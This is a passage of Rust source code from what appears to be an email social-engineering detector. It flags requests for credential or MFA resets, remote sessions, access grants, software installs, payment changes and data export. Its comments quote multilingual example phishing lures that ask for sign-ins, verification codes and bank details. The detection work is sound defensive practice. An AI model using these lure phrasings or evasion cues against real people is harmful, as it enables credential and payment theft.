                    // verification code by name: not "the code" of a program.
                    self.word(ob).contains(' ') || v.first(C::ADDRESSEE).is_some() || has(C::O_MFA)
                })
        {
            say(
                self,
                RiskCategory::CredentialReset,
                None,
                Some(ob),
                to_writer,
            );
            say(self, RiskCategory::MfaReset, None, Some(ob), to_writer);
        }
        if let Some(ob) = code_beside
            && (has(C::O_CREDENTIAL)
                || self
                    .found
                    .iter()
                    .any(|f| f.category == RiskCategory::CredentialReset && !f.as_usual))
        {
            say(self, RiskCategory::MfaReset, None, Some(ob), to_writer);
        }

        // Signing in, or confirming one's account, on a page the message
        // links to: credentials typed into a page of the writer's choosing
        // ("sign in with your staff account to start: https://...",
        // "bitte bestätigen Sie Ihr Konto: https://..."). A sign-in "as
        // usual" (the known portal, the known way) asks for nothing new.
        if let Some(s) = v
            .first(C::V_SIGNIN)
            .or_else(|| {
                v.idx()
                    .filter(|&i| self.toks[i].cls & C::V_VERIFY.bit() != 0)
                    .find(|&i| {
                        // German puts it first: "Konto bestätigen".
                        v.near(i, C::O_ACCOUNT, 2, 4)
                            .or_else(|| v.near(i, C::O_IDENTITY, 2, 4))
                            .or_else(|| v.near(i, C::O_CREDENTIAL, 2, 4))
                            .is_some()
                            // "Your mailbox has not been verified. To keep
                            // it, verify here:": the account of the
                            // sentence before, the reader's own.
                            || i == act.at && self.readers_account_before(v)
                    })
            })
            .or_else(|| self.own_login_as_means(v, act.at))
            // "Change your password today via this link": the old password
            // and the new are typed into the writer's page as a sign-in is.
            .or_else(|| {
                v.pair(C::V_RESET, C::O_CREDENTIAL)
                    .filter(|&(_, ob)| self.readers_own(ob, v.aside))
                    .map(|(vb, _)| vb)
            })
            && let Some(l) = self.pointed(v).or_else(|| self.attachment_opened_before(v))
        {
            // The evidence's direction is the word the link follows.
            if self.usual(v) {
                let why = format!(
                    "{how} \"{act_word}\"; sign-in as usual \"{}\" on the page after \"{}\"",
                    self.word(s),
                    self.word(l)
                );
                self.push_found(RiskCategory::CredentialReset, why, &v.range, None, true);
            } else {
                say(self, RiskCategory::CredentialReset, Some(s), None, Some(l));
            }
        }

        // A prompt to accept in a sentence about connecting to the reader's
        // machine is a remote session, not a sign-in.
        let sentence = self.sentence_cls;
        // "Me conectaré en remoto: te saldrá una ventana ...": a connection
        // said to be remote is one, whatever else the message names.
        let remote_prompt = sentence & C::O_REMOTE.bit() != 0
            || sentence & bits(&[C::V_CONNECT, C::REMOTELY]) == bits(&[C::V_CONNECT, C::REMOTELY])
            || sentence & C::V_CONNECT.bit() != 0
                && sentence & C::O_DEVICE.bit() != 0
                && self.message_cls & bits(&[C::O_MFA, C::O_CODE, C::O_CREDENTIAL]) == 0;
        // MFA reset, disable, enrolment, or a prompt approved.
        let mfa = v
            .pair(C::V_RESET, C::O_MFA)
            .or_else(|| v.pair(C::V_DISABLE, C::O_MFA))
            .or_else(|| v.pair(C::V_ENROL, C::O_MFA))
            .or_else(|| {
                v.pair(C::V_APPROVE, C::O_PUSH)
                    .filter(|_| !has(C::O_REMOTE) && !remote_prompt)
            })
            .or_else(|| v.pair(C::V_ENROL, C::O_CODE).filter(|_| !not_secret))
            // "Merci de réenregistrer votre téléphone" in a message about
            // the second factor: the phone is the factor.
            .or_else(|| {
                v.pair(C::V_ENROL, C::PHONE_LINE).filter(|_| {
                    has(C::O_CODE)
                        || has(C::O_MFA)
                        || has(C::O_ACCOUNT)
                        || self.message_cls & C::O_MFA.bit() != 0
                })
            });
        if let Some((vb, ob)) = mfa {
            say(self, RiskCategory::MfaReset, Some(vb), Some(ob), to_writer);
        } else if need && let Some(ob) = needed(C::O_MFA, 5) {
            say(self, RiskCategory::MfaReset, None, Some(ob), to_writer);
        }

        // Remote sessions.
        let remote = v
            .pair(C::V_INSTALL, C::O_REMOTE)
            .or_else(|| v.pair(C::V_CONNECT, C::O_REMOTE))
            .or_else(|| v.pair(C::V_APPROVE, C::O_REMOTE))
            .or_else(|| v.pair(C::V_GIVE, C::O_REMOTE))
            .or_else(|| v.pair(C::V_GRANT, C::O_REMOTE))
            .or_else(|| v.pair(C::V_APPROVE, C::O_PUSH).filter(|_| remote_prompt));
        // Access to the reader's own machine ("Zugriff auf Ihren Rechner",
        // "access to your laptop") is a remote session.
        let device_access = v
            .pair(C::V_GRANT, C::O_ACCESS)
            .or_else(|| v.pair(C::V_APPROVE, C::O_ACCESS))
            .or_else(|| v.pair(C::V_GIVE, C::O_ACCESS))
            // "Halten Sie Ihre Zugangsdaten und Ihr Smartphone bereit":
            // access data are credentials, and an access named in an
            // earlier sentence is not to this machine.
            .filter(|&(_, ob)| {
                self.toks[ob].cls & C::O_CREDENTIAL.bit() == 0 && v.range.contains(&ob)
            })
            .and_then(|(vb, ob)| {
                v.idx()
                    .filter(|&d| d > ob && self.toks[d].cls & C::O_DEVICE.bit() != 0)
                    .find(|&d| v.near(d, C::ADDRESSEE, 2, 0).is_some())
                    .map(|d| (vb, d))
            });
        // Or a connection to the reader's device by the writer ("I'll
        // connect to your PC"), or one the writer's side needs.
        let session = remote
            .or_else(|| {
                v.pair(C::V_CONNECT, C::O_DEVICE).filter(|&(vb, _)| {
                    // "Please sign in ... into your browser": the reader
                    // signing in connects nobody; "I'll log in to your
                    // PC" does.
                    let signs_in = self.toks[vb].cls & C::V_SIGNIN.bit() != 0;
                    v.first(C::ADDRESSEE).is_some()
                        && (v.first(C::WRITER_SUBJECT).is_some()
                            || to_writer.is_some() && !signs_in)
                })
            })
            .or_else(|| self.connect_needed(v, act.at).filter(|_| need))
            .or(device_access);
        if let Some((vb, ob)) = session {
            say(
                self,
                RiskCategory::RemoteAccess,
                Some(vb),
                Some(ob),
                to_writer,
            );
        } else if let Some(ob) = needed(C::O_REMOTE, 14)
            .filter(|_| need)
            .or_else(|| needed(C::O_REMOTE, 3).filter(|_| fact))
            .or_else(|| v.first(C::O_REMOTE).filter(|_| object_only))
        {
            say(self, RiskCategory::RemoteAccess, None, Some(ob), to_writer);
        }

        // Access, roles, groups, accounts.
        let access = v
            .pair(C::V_GRANT, C::O_ACCESS)
            .filter(|_| aimed && device_access.is_none())
            .or_else(|| {
                v.pair(C::V_RESET, C::O_ACCOUNT).filter(|&(vb, ob)| {
                    // Making one is read above, for whom it is made.
                    self.toks[vb].cls & C::V_CREATE.bit() == 0
                        && aimed
                        && (v.near(ob, C::WRITER_OWN, 2, 0).is_some()
                            || v.first(C::ADDRESSEE).is_none())
                        && !has(C::O_CREDENTIAL)
                        && !has(C::O_MFA)
                        && !has(C::O_PAY_DEST)
                })
            })
            // "Set up an account for Dan", "reactivate the guest user",
            // "legen Sie ein Konto für ... an": an account made or opened
            // for someone, not the reader's own ("activate your account").
            .or_else(|| {
                // Or the writer's own switched on: "could you enable my
                // named account", "peux-tu activer mon compte".
                let grant_own = || {
                    v.pair(C::V_GRANT, C::O_ACCOUNT)
                        .filter(|&(_, ob)| v.near(ob, C::WRITER_OWN, 2, 0).is_some())
                };
                v.pair(C::V_CREATE, C::O_ACCOUNT).or_else(grant_own).filter(|&(vb, ob)| {
                    // Made for someone named ("for Dan", "für Frau Maier"),
                    // or brought back: not "create an account on our portal".
                    // The account may be the antecedent of "create it".
                    let antecedent = !v.range.contains(&ob);
                    // "ouvrir deux comptes sur votre extranet pour Mme Roche":
                    // the place may come between.
                    let for_someone = (ob + 1..(ob + 8).min(v.range.end))
                        .any(|j| matches!(self.word(j), "for" | "für" | "fur" | "pour" | "para"))
                        || (ob.saturating_sub(3)..ob)
                            .any(|j| self.toks[j].cls & C::BENEFICIARY.bit() != 0)
                        || has(C::BENEFICIARY)
                        || ["re", "ré", "wieder"].iter().any(|p| self.word(vb).starts_with(p));
                    aimed
                        && (for_someone || v.near(ob, C::WRITER_OWN, 2, 0).is_some())
                        && device_access.is_none()
                        && (antecedent || self.words_between(vb, ob) <= 3)
                        && !self.readers_own(ob, v.aside)
                        && !has(C::O_CREDENTIAL)
                        && !has(C::O_MFA)
                        // "Konto", "cuenta" are bank accounts too.
                        && all & bits(&[C::O_PAYMENT, C::O_TRANSFER, C::CURRENCY, C::O_PAYROLL]) == 0
                        && v.amount().is_none()
                })
            })
            // "Change my role to Global Admin": someone's access changed.
            .or_else(|| {
                v.pair(C::V_CHANGE, C::O_ACCESS)
                    .or_else(|| v.pair(C::V_RESET, C::O_ACCESS))
                    .filter(|_| aimed && device_access.is_none())
                    .filter(|_| all & bits(&[C::WRITER_OWN, C::WRITER_OBJECT, C::BENEFICIARY]) != 0)
            })
            // "Could she get the same access as Conor", "¿puede tener acceso
            // al grupo?": asked that someone receive access.
            .or_else(|| {
                v.pair(C::OFFER, C::O_ACCESS)
                    // "Can I have admin rights", "pourrais-je avoir un
                    // accès", "¿podría tener acceso?": having, after a modal.
                    .or_else(|| {
                        let have = v.idx().find(|&i| {
                            is_having(self.word(i)) && v.near(i, C::MODAL, 4, 0).is_some()
                        })?;
                        v.idx()
                            .find(|&j| j > have && self.toks[j].cls & C::O_ACCESS.bit() != 0)
                            .map(|ob| (have, ob))
                    })
                    .filter(|_| aimed && device_access.is_none())
                    .filter(|&(vb, _)| {
                        v.near(vb, C::BENEFICIARY, 3, 0)
                            .or_else(|| v.near(vb, C::WRITER_SUBJECT, 3, 0))
                            .is_some()
                    })
            })
            // "Please set her up on the wiki", "bitte Herrn Brandl im
            // Ticketsystem anlegen": a person set up is access made for them.
            .or_else(|| {
                let pay = bits(&[C::O_PAYMENT, C::O_TRANSFER, C::O_PAYROLL, C::O_PAY_DEST]);
                if !aimed || device_access.is_some() || all & pay != 0 {
                    return None;
                }
                self.person_set_up(v)
            });
        if let Some((vb, ob)) = access {
            say(
                self,
                RiskCategory::AccessGrant,
                Some(vb),
                Some(ob),
                to_writer,
            );
        } else if let Some(ob) = needed(C::O_ACCESS, 12)
            .filter(|_| need)
            // "She will need an account": an account made for someone
            // else is access given to them.
            .or_else(|| needed(C::O_ACCOUNT, 6).filter(|_| how == "a need for someone"))
            .or_else(|| {
                v.first(C::O_ACCESS)
                    .filter(|_| object_only && !needs_process)
            })
            // "Die Daten bekommen wir über unser Formular": the form the
            // thing needed comes through, not access needed.
            .filter(|&ob| !self.channel_before(ob))
        {
            // "Could he please have membership of ...": the act and the
            // object are the request, whatever the verb.
            say(self, RiskCategory::AccessGrant, None, Some(ob), to_writer);
        }

        // Software to install or run (by the reader: "I need X to install Y"
        // is the writer's plan).
        let writers_plan = need && v.near(act.at, C::ADDRESSEE, 0, 2).is_none();
        // Software talked about ("you need to install the glut package") is
        // everyday advice; software handed over or aimed at a machine ("the
        // attached tool", "on your laptop", "our agent", "today") is an
        // install to verify.
        let handed = all & bits(&[
                C::BELOW,
                C::WRITER_OWN,
                C::WRITER_OBJECT,
                C::URGENT,
                C::CRITICAL,
                C::O_DEVICE,
                C::O_HOST,
                C::NEW,
            ]) != 0
                || v.idx()
                    .any(|i| is_executable(self.word(i)) || self.toks[i].program_link)
                || self.follows_link
                || self.program_ahead(v)
                // "Here's the tool: https://.../fix.exe. Run it": the
                // pronoun takes up the program the link before handed over.
                || all & C::PRONOUN.bit() != 0
                    && v.back.clone().any(|i| self.toks[i].program_link)
                // "Install the tool: https://...": the program is the one
                // the link hands over; not a program "loaded" or "run" by
                // some link's advice.
                || v.idx().any(|i| is_setup_verb(self.word(i)))
                    && (act.at + 1..(v.range.end + 2).min(self.toks.len()))
                        .any(|i| self.toks[i].link && !self.toks[i].quoted);
        // The program named before and taken up by a pronoun ("the new
        // agent is on the portal; can you install it on the server?") is a
        // given one, not software in general.
        let install = v
            .pair(C::V_INSTALL, C::O_SOFTWARE)
            // Asked of the reader ("can you install the diff tool for
            // me?"), the install is the reader's to do; "would you run
            // that software?" asks an opinion.
            .filter(|&(_, ob)| {
                let can = how == "question to the reader"
                    && has(C::ADDRESSEE)
                    && [
                        "could", "can", "kann", "konn", "pourr", "pouv", "peu", "pod", "pued",
                    ]
                    .iter()
                    .any(|m| self.word(act.at).starts_with(m));
                aimed && (handed || how != "imperative" && !v.range.contains(&ob) || can)
            })
            // A remote-access tool is aimed at the reader's machine by nature.
            // A session is opened, not installed.
            .or_else(|| {
                v.pair(C::V_INSTALL, C::O_REMOTE)
                    .filter(|&(_, ob)| aimed && self.toks[ob].cls & C::SESSION.bit() == 0)
            })
            // "Install it from https://.../setup.exe": the linked program is
            // the object.
            .or_else(|| {
                let program = v.idx().find(|&i| self.toks[i].program_link)?;
                v.first(C::V_INSTALL)
                    .filter(|_| aimed)
                    .map(|vb| (vb, program))
            })
            // "Instala esto y pásame el número: https://.../setup.exe",
            // "install this, then ...: <link>", "lancez l'assistant
            // ci-dessous": "this", or what the clause points below at, is
            // the program the message links next, a clause or two on.
            .or_else(|| {
                const LINK_WITHIN: usize = 16;
                let vb = v.first(C::V_INSTALL).filter(|_| aimed)?;
                let this = self
                    .toks
                    .get(vb + 1)
                    .filter(|_| v.range.contains(&(vb + 1)))?;
                let word = &self.buffer[this.start..this.end];
                let points_below = v
                    .idx()
                    .any(|i| i > vb && self.toks[i].cls & C::BELOW.bit() != 0);
                if !points_below
                    && !matches!(
                        word,
                        "this" | "it" | "esto" | "eso" | "este" | "dies" | "das" | "ceci" | "ca"
                    )
                {
                    return None;
                }
                // An aside inside the clause may carry the link: "(about
                // 30 min): https://...".
                let to = (v.range.end + LINK_WITHIN).min(self.toks.len());
                let program =
                    (vb + 1..to).find(|&i| self.toks[i].program_link && !self.toks[i].quoted)?;
                Some((vb, program))
            })
            .or_else(|| {
                v.first(C::O_SOFTWARE)
                    .filter(|_| how == "the reader's need")
                    .map(|ob| (act.at, ob))
            })
            // "Could you schedule the install this week?": the install is
            // a noun, the object of a verb of planning or doing, asked of
            // the reader about a program named before.
            .or_else(|| {
                let noun = v.idx().find(|&i| {
                    let t = &self.toks[i];
                    t.cls & C::V_INSTALL.bit() != 0
                        && t.cls & C::O_SOFTWARE.bit() != 0
                        && i > v.range.start
                        && self.toks[i - 1].cls & C::ARTICLE.bit() != 0
                })?;
                let doing = v.idx().filter(|&i| i < noun).find(|&i| {
                    let w = self.word(i);
                    w == "do"
                        || [
                            "schedul", "plan", "carry", "perform", "arrang", "book", "einplan",
                            "vornehm", "programa", "realiz", "effectu", "organis", "organiz",
                        ]
                        .iter()
                        .any(|p| w.starts_with(p))
                })?;
                // The program may be named anywhere before, in a negated
                // aside too ("nothing to download from email").
                let named_before = self.toks[..v.range.start]
                    .iter()
                    .any(|t| t.cls & C::O_SOFTWARE.bit() != 0 && !t.quoted);
                (aimed && how != "imperative" && self.reader_asked(v) && named_before)
                    .then_some((doing, noun))
            })
            .or_else(|| {
                // "install Acrobat on my laptop": a product name is no lexicon
                // word, the machine it goes on is.
                v.pair(C::V_INSTALL, C::O_DEVICE)
                    .filter(|&(vb, _)| is_setup_verb(self.word(vb)))
            })
            .or_else(|| {
                // "Could you install Krita on the lab PCs?": the word right
                // after "install" that no lexicon knows is the product,
                // when asked of the reader; an imperative or a "need to"
                // is as often advice ("install mplayer with rpm -ivh").
                if !matches!(how, "question to the reader" | "polite request") {
                    return None;
                }
                let vb = v.idx().find(|&i| {
                    let w = self.word(i);
                    self.toks[i].cls & C::V_INSTALL.bit() != 0
                        && (w.starts_with("install") || w.starts_with("instal"))
                })?;
                let name = vb + 1;
                let t = self.toks.get(name).filter(|_| v.range.contains(&name))?;
                (aimed && t.cls == 0 && !t.digits && !t.quoted && t.sep < Sep::Sentence)
                    .then_some((vb, name))
            });
        // "Wir bräuchten ein Zeichenprogramm auf unserem Notebook", "I need
        // on my laptop the app ...": a program the writer needs on his own
        // machine is asked of whoever installs it, not the writer's plan.
        let on_own_machine = || {
            let ob = needed(C::O_SOFTWARE, 8)
                .or_else(|| self.products_needed(v, act.at))
                .filter(|_| need)?;
            // "Necesito acceso de administrador ... para instalar un
            // programa": the install is the writer's own plan.
            if v.idx().any(|j| {
                self.toks[j].cls & C::PURPOSE.bit() != 0 && v.near(j, C::O_SOFTWARE, 0, 3).is_some()
            }) {
                return None;
            }
            // After the need: "mein Rechner braucht seit dem Update ewig" is
            // the machine's time, not a need of the writer's.
            v.idx()
                .filter(|&j| j > act.at)
                .find(|&j| {
                    self.toks[j].cls & C::O_DEVICE.bit() != 0
                        && v.near(j, C::WRITER_OWN, 2, 0).is_some()
                })
                .map(|_| (act.at, ob))
        };
        // "Im Lager benötigen wir dafür eure Installation": the reader's
        // install of a program named before, needed by the writer.
        let readers_install = || {
            let noun = needed(C::V_INSTALL, 4).filter(|_| need)?;
            let named_before = self.toks[..v.range.start]
                .iter()
                .any(|t| t.cls & C::O_SOFTWARE.bit() != 0 && !t.quoted);
            (self.toks[noun].cls & C::O_SOFTWARE.bit() != 0
                && self.toks[noun - 1].cls & C::READER_OWN.bit() != 0
                && named_before)
                .then_some((act.at, noun))
        };
        if let Some((vb, ob)) = install
            .filter(|_| !writers_plan)
            .or_else(on_own_machine)
            .or_else(readers_install)
        {
            say(
                self,
                RiskCategory::SoftwareInstall,
                Some(vb),
                Some(ob),
                None,
            );
        }

        // Payments: a changed destination, a transfer, gift cards, payroll.
        // To the usual account too when a sum is named: money moved on an
        // email's word wants its requester proven, wherever it goes.
        // What the contrast denies ("not the usual one") is not said
        // unchanged.
        let contrast = self.contrast_at(v).unwrap_or(v.range.end);
        let unchanged = v
            .idx()
            .any(|i| i < contrast && self.toks[i].cls & C::UNCHANGED.bit() != 0);
        if (!unchanged || v.amount().is_some() || self.sentence_amount)
            && let Some((vb, ob)) = self.payment(
                v,
                need,
                how == "obligation on the reader",
                how == "imperative",
            )
            && !self.changes_in_general(v)
            // "The inspector needs a full export of all employees: name,
            // date of birth ... and bank details": people's records listed,
            // bank details among them, are data going out, not money.
            && !(v.idx().any(|j| {
                self.toks[j].cls & C::O_DATA.bit() != 0 && self.toks[j].cls & C::O_PAYROLL.bit() == 0
            }) && all & bits(&[C::O_PEOPLE, C::BULK]) != 0
                && v.amount().is_none()
                && !self.sentence_amount)
        {
            say(self, RiskCategory::PaymentChange, Some(vb), ob, to_writer);
        } else if aimed
            // "Reply with your card details", "envoyez-nous vos coordonnées
            // bancaires": the reader's own bank or card details handed to
            // the writer, who can then charge them or claim to refund.
            && let Some((vb, ob)) = v.pair(C::V_GIVE, C::O_PAY_DEST).filter(|&(vb, ob)| {
                // Not a plain "account", which is as often a sign-in's; not
                // a list of people "with their bank details" ("sus" is
                // "your" and "their"): that is data going out.
                vb < ob
                    && self.toks[ob].cls & C::O_ACCOUNT.bit() == 0
                    && all & bits(&[C::O_DATA, C::O_PEOPLE, C::BULK]) == 0
                    && self.readers_own(ob, v.aside)
                    && (replying || self.is_reply(vb) || to_writer.is_some())
            })
        {
            say(
                self,
                RiskCategory::PaymentChange,
                Some(vb),
                Some(ob),
                to_writer,
            );
        }

        // Data sent out: "send us the list of all employees", "export the
        // customer database", "a copy of your passport". A list is of
        // people, pay, or every account, user or device.
        // The people are the list's content ("the list of employees", "the
        // employee list"), not the one it is handed to ("geben Sie dem
        // Fahrer die Kopie ... mit").
        let people_listed = v
            .idx()
            .any(|p| self.toks[p].cls & C::O_PEOPLE.bit() != 0 && !self.receiver(v, p));
        let bulk_of_people = people_listed
            || has(C::O_PAYROLL)
            || has(C::BULK)
                && all & bits(&[C::O_ACCOUNT, C::O_ACCESS, C::O_DEVICE, C::O_CREDENTIAL]) != 0;
        let export = v
            .pair(C::V_EXPORT, C::O_DATA)
            .or_else(|| v.pair(C::V_GIVE, C::O_DATA))
            .or_else(|| {
                v.pair(C::V_EXPORT, C::O_LIST)
                    .filter(|&(vb, _)| bulk_of_people || strong_export(self.word(vb)))
            })
            .or_else(|| {
                v.pair(C::V_GIVE, C::O_LIST)
                    .filter(|&(_, ob)| bulk_of_people || self.of_people_taken_up(v, ob))
            })
            // "For anything on UK pay runs please contact ...": a verb in
            // -s has its own subject; it is no order.
            .filter(|&(vb, _)| !self.third_person_en(vb));
        // "faster payment file export": an English noun before "export"
        // makes a compound, not the verb's object.
        let compound = |(vb, ob): (usize, usize)| self.langs[0] == EN && ob + 1 == vb;
        // "Queremos entregarlos con la nómina": what the writer wants to
        // hand over himself is his plan, asked of no one.
        let writers_own_giving =
            how == "the writer's need" && !has(C::WRITER_OBJECT) && !has(C::ADDRESSEE);
        if let Some((vb, ob)) = export.filter(|&p| aimed && !compound(p) && !writers_own_giving) {
            let word = self.word(vb);
            let strong_verb = strong_export(word);
            let towards = v.first(C::WRITER_OBJECT);
            if towards.is_some()
                || strong_verb
                || has(C::BELOW)
                // Records and identity documents are sensitive wherever they go,
                // and so is a list of people with their bank or pay details.
                || self.toks[ob].cls & C::O_DATA.bit() != 0
                || bulk_of_people && all & bits(&[C::O_PAY_DEST, C::O_PAYROLL]) != 0
            {
                say(self, RiskCategory::DataExport, Some(vb), Some(ob), towards);
            }
        } else if need
            // "Queremos entregarlos con la nómina": the writer wants to hand
            // something over, and needs nothing of the reader.
            // The verb right after the need ("I need to send you ..."),
            // not a noun far on ("... and personal email").
            && !(v.idx().any(|j| {
                j > act.at && j <= act.at + 3 && self.toks[j].cls & C::V_GIVE.bit() != 0
            })
                && !has(C::WRITER_OBJECT)
                && !has(C::ADDRESSEE))
            && let Some(ob) = needed(C::O_DATA, 6)
                // "Necesito un listado de toda la plantilla": the writer
                // needs a list of people.
                .or_else(|| {
                    needed(C::O_LIST, 6).filter(|_| how == "the writer's need" && bulk_of_people)
                })
                // "We need, for every employee: personnel number, tax ID and
                // bank account": people's records listed after the need,
                // however far from it.
                .or_else(|| {
                    v.idx()
                        .filter(|&j| j > act.at)
                        .find(|&j| self.toks[j].cls & bits(&[C::O_DATA, C::O_PAY_DEST]) != 0)
                        .filter(|_| how == "the writer's need" && has(C::O_PEOPLE))
                })
                .or_else(|| {
                    v.first(C::O_LIST)
                        .or_else(|| v.first(C::O_DATA))
                        .filter(|_| has(C::O_PEOPLE) || has(C::O_DATA))
                        .filter(|_| {
                            v.first(C::WRITER_OBJECT).is_some() || v.first(C::WRITER_OWN).is_some()
                        })
                })
        {
            say(self, RiskCategory::DataExport, None, Some(ob), to_writer);
        }
        hit
    }

    /// "All changes of supplier accounts need two signatures", "cualquier
    /// cambio de IBAN pasa por compras": changes of a kind, spoken of as
    /// a rule (a plural noun, or after "any"), to no destination given here
    /// (no number, nothing new), are how the process works, not a change
    /// asked for.
    fn changes_in_general(&self, v: &View<'_>) -> bool {
        let idx: Vec<usize> = v.idx().collect();
        // English "changes" is a verb too: "our account changes on 1 May".
        let verb_after = |n: usize| {
            idx.get(n + 1).is_some_and(|&j| {
                matches!(
                    self.word(j),
                    "on" | "from" | "effective" | "starting" | "as" | "with"
                )
            })
        };
        // "Un changement de RIB se vérifie toujours ...": what is always
        // done with a change (any one: the indefinite article) is a rule.
        let always = idx.iter().any(|&i| {
            matches!(
                self.word(i),
                "always" | "toujours" | "immer" | "stets" | "siempre" | "systematiquement"
            )
        });
        let change = idx.iter().enumerate().find(|&(n, &i)| {
            matches!(
                self.word(i),
                "cambios" | "anderungen" | "modifications" | "changements"
            ) || self.word(i) == "changes" && !verb_after(n)
                || self.toks[i].cls & C::V_CHANGE.bit() != 0
                    && (always
                        && n > 0
                        && matches!(
                            self.word(idx[n - 1]),
                            "a" | "an" | "un" | "une" | "ein" | "eine" | "einer" | "una" | "uno"
                        )
                        || idx[n.saturating_sub(3)..n].iter().any(|&j| {
                            matches!(
                                self.word(j),
                                "any"
                                    | "every"
                                    | "all"
                                    | "cualquier"
                                    | "todo"
                                    | "todos"
                                    | "jede"
                                    | "jeder"
                                    | "jedes"
                                    | "alle"
                                    | "toute"
                                    | "toutes"
                                    | "tout"
                                    | "tous"
                                    | "chaque"
                            )
                        }))
        });
        let Some((_, &change)) = change else {
            return false;
        };
        !idx.iter().any(|&j| {
            let t = &self.toks[j];
            t.digits && t.end - t.start > 4 || t.amount || t.cls & C::NEW.bit() != 0 && j != change
        })
    }

    /// The word at `p` names whom something is given to: right after the
    /// giving verb ("geben Sie dem Fahrer ...", "give the driver ...") or
    /// after "to" ("send it to the driver").
    fn receiver(&self, v: &View<'_>, p: usize) -> bool {
        let toks = self.toks;
        let between = bits(&[C::ARTICLE, C::ADDRESSEE, C::PRONOUN, C::FILLER]);
        let mut j = p;
        while j > v.range.start && toks[j - 1].cls & between != 0 && p - j < 3 {
            j -= 1;
        }
        j > v.range.start
            && (toks[j - 1].cls & bits(&[C::V_GIVE, C::V_EXPORT]) != 0
                || toks[j - 1].cls & C::TOWARD.bit() != 0)
    }

    /// A link to a program file follows later in the clause's paragraph
    /// ("download and install the package before Friday, or Outlook
    /// stops working: https://.../update.exe"): the program is handed over.
    fn program_ahead(&self, v: &View<'_>) -> bool {
        self.toks[v.range.start..]
            .iter()
            .enumerate()
            .take_while(|&(k, t)| k == 0 || t.sep < Sep::Paragraph)
            .take(40)
            .any(|(_, t)| t.program_link)
    }

    /// The sentence around `ob` says it is unchanged ("the bank details
    /// are the same as before").
    fn said_unchanged(&self, ob: usize) -> bool {
        let toks = self.toks;
        let mut from = ob;
        while from > 0 && !toks[from - 1].stop && toks[from].sep < Sep::Paragraph {
            from -= 1;
        }
        let mut to = ob;
        while to + 1 < toks.len() && !toks[to].stop && toks[to + 1].sep < Sep::Paragraph {
            to += 1;
        }
        toks[from..=to]
            .iter()
            .any(|t| t.cls & C::UNCHANGED.bit() != 0)
    }

    /// The object at `ob` is the reader's own ("your password", "Ihr
    /// Kennwort"): a possessive of the reader stands just before it. "Reset your
    /// password" and "changez-le depuis votre poste" tell the reader to
    /// look after his own; "can you reset it", "pouvez-vous le
    /// réinitialiser ?" ask him, the subject, to reset someone's.
    fn readers_own(&self, ob: usize, aside: bool) -> bool {
        (ob.saturating_sub(2)..ob).any(|j| {
            let t = &self.toks[j];
            !t.covered && t.aside == aside && t.cls & C::READER_OWN.bit() != 0
        })
    }

    /// The reader is the subject of a modal the clause asks with: "can
    /// you", "könnten Sie", "vous pouvez ... ?", "¿podéis ...?".
    fn reader_asked(&self, v: &View<'_>) -> bool {
        v.idx()
            .filter(|&i| self.toks[i].cls & C::MODAL.bit() != 0)
            .any(|i| v.near(i, C::ADDRESSEE, 1, 2).is_some() || self.word(i).starts_with("pod"))
    }

    /// An attachment opened earlier in the sentence of `v` ("open the
    /// attachment in your browser and sign in"): a sign-in there types the
    /// credentials into a page the message carries. Returns its word.
    fn attachment_opened_before(&self, v: &View<'_>) -> Option<usize> {
        const WORDS_BACK: usize = 16;
        let toks = self.toks;
        (v.range.start.saturating_sub(WORDS_BACK)..v.range.start)
            .rev()
            .take_while(|&j| !toks[j].stop)
            .find(|&j| {
                toks[j].cls & C::BELOW.bit() != 0
                    && !toks[j].quoted
                    && ["attach", "anhang", "anlage", "joint", "adjunt"]
                        .iter()
                        .any(|p| self.word(j).starts_with(p))
                    // Opened: "open the attachment", "öffnen Sie den
                    // Anhang"; not "the agenda is attached; sign in to the
                    // call".
                    && (j.saturating_sub(4)..j).any(|o| {
                        ["open", "offn", "ouvr", "abr"]
                            .iter()
                            .any(|p| self.word(o).starts_with(p))
                    })
            })
    }

    /// The act at `verb` done with the reader's own login or account as its
    /// means ("sign the form off with your staff login", "confirmez avec
    /// votre compte de messagerie"): the login is typed in wherever the act
    /// happens. Returns the verb.
    fn own_login_as_means(&self, v: &View<'_>, verb: usize) -> Option<usize> {
        const SPAN: usize = 5;
        let toks = self.toks;
        // "Contact your account manager": whom, not by what means.
        if toks[verb].cls & C::V_CALL.bit() != 0 {
            return None;
        }
        let with = v
            .idx()
            .find(|&i| i > verb && toks[i].cls & C::WITH.bit() != 0)?;
        let end = (with + 1 + SPAN).min(v.range.end);
        let owner = (with + 1..end).find(|&j| toks[j].cls & C::READER_OWN.bit() != 0)?;
        // The login is the phrase's head: "your account manager" or "su
        // gestor de cuenta" names a person.
        (owner + 1..end)
            .take_while(|&j| {
                !matches!(
                    self.word(j),
                    "of" | "de" | "del" | "du" | "des" | "von" | "vom"
                )
            })
            .any(|j| {
                let cls = toks[j].cls;
                let person_next = toks
                    .get(j + 1)
                    .is_some_and(|t| t.cls & (C::OTHERS.bit() | C::O_PEOPLE.bit()) != 0);
                // A bank account is where money goes, not a login (French
                // "compte" is both: the identity sense counts).
                let login = cls & C::O_CREDENTIAL.bit() != 0
                    || cls & C::O_ACCOUNT.bit() != 0
                        && (cls & C::O_PAY_DEST.bit() == 0 || cls & C::O_IDENTITY.bit() != 0);
                login && !person_next
            })
            .then_some(verb)
    }

    /// The words just before `v`, in its paragraph or the one before,
    /// name the reader's own account ("your mailbox", "votre compte"),
    /// stated or denied ("has not been verified").
    fn readers_account_before(&self, v: &View<'_>) -> bool {
        const WORDS_BACK: usize = 30;
        let toks = self.toks;
        let mut paragraphs = 0;
        for j in (v.range.start.saturating_sub(WORDS_BACK)..v.range.start).rev() {
            if toks[j + 1].sep == Sep::Paragraph {
                paragraphs += 1;
                if paragraphs > 1 {
                    break;
                }
            }
            let t = &toks[j];
            if !t.quoted
                // "Confirm your bank details ... Confirm now: https://...":
                // what the page takes is typed into the writer's page too.
                && t.cls & (C::O_ACCOUNT.bit() | C::O_IDENTITY.bit() | C::O_PAY_DEST.bit()) != 0
                && self.readers_own(j, t.aside)
            {
                return true;
            }
        }
        false
    }

    /// The code at `ob` is a secret: a verification code by name, one that
    /// reaches the reader's phone ("the code you receive by text"), or one
    /// `told` secret by its context (it goes to the writer, the sentence
    /// names the phone or app). A code the message prints itself ("enter
    /// the security code: 3F0C6A7E") is handed to the reader, not asked of
    /// him.
    fn secret_code(&self, v: &View<'_>, ob: usize, told: bool) -> bool {
        (self.word(ob).contains(' ') || told || v.near(ob, C::DELIVERED, 0, 6).is_some())
            && !self.code_printed_after(ob)
    }

    /// The value of the code named at `ob` follows it: a word of six or
    /// more letters and digits with digits in it, just after.
